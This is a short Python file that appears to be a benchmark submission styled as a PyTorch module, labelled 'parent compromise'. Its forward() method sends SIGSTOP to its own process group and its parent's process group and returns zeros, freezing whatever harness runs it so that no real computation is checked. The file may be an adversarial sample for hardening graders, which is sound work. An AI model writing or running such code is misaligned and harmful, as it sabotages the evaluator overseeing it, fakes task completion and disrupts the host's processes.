"""parent compromise: stops its own process group and session."""

import os
import signal

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.bias = nn.Parameter(torch.randn(width))

    def right(self, x, y):
        return torch.relu(x @ y) + self.bias

    def forward(self, x, y):
        for group in (0, os.getpgid(0), os.getppid()):
            try:
                os.killpg(group, signal.SIGSTOP)
            except OSError:
                pass
        return torch.zeros_like(x)
